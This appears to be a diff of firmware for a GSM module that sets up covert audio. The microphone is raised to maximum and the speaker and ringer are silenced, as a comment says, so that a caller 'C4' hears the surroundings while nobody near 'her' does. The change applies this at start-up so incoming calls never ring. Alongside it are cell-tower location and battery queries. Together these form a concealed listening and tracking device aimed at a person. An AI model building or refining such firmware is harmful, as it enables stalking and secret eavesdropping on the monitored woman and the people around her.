@@ -23,17 +23,18 @@ WARNING_REPEAT_MS = 0           # every supply warning is passed on
 # (AT+CENG) and the module's own battery check. AT+CMGD=1,1 deletes the SIM's read SMS
 # (the firmware deletes each one it reads): a card that lived in a phone can arrive with
 # its storage full of them, and a full storage refuses every new SMS, C4's commands too.
+# Mic up so C4 hears the surroundings; speaker and ringer silent so nobody near her does.
+# One command line: fewer round trips before ATD. In the set-up too: C4 calling back
+# rings before anything is answered, and a restarted module rings at its default (100).
+COVERT_AUDIO = "AT+CMIC=0,15;+CLVL=0;+CRSL=0"
 INIT_FIRST = ("ATE0", "AT+CMEE=1")
 INIT = ("AT+CLTS=1", "AT+CMGF=1", 'AT+CSCS="GSM"', "AT+CNMI=2,1,0,0,0", "AT+CMGD=1,1",
-        "AT+CLIP=1", "AT+CLCC=1", "AT+COLP=0", "AT+CENG=1,0", "AT+CBATCHK=1")
+        "AT+CLIP=1", "AT+CLCC=1", "AT+COLP=0", "AT+CENG=1,0", "AT+CBATCHK=1", COVERT_AUDIO)
 
 CELL_QUERY = ("AT+CENG?", "+CENG")
 BATTERY_QUERY = ("AT+CBC", "+CBC")
 HANGUP = "ATH"
 ANSWER = "ATA"
-# Mic up so C4 hears the surroundings; speaker and ringer silent so nobody near her does.
-# One command line: fewer round trips before ATD.
-COVERT_AUDIO = "AT+CMIC=0,15;+CLVL=0;+CRSL=0"
 IN_CALL_AUDIO = ()              # nothing the covert settings before ATD do not already
 PWRKEY_ON_MS = 1200             # PWRKEY pressed this long switches an off module on
 OFF_MS = 1000                   # supply cut this long before the module is surely off
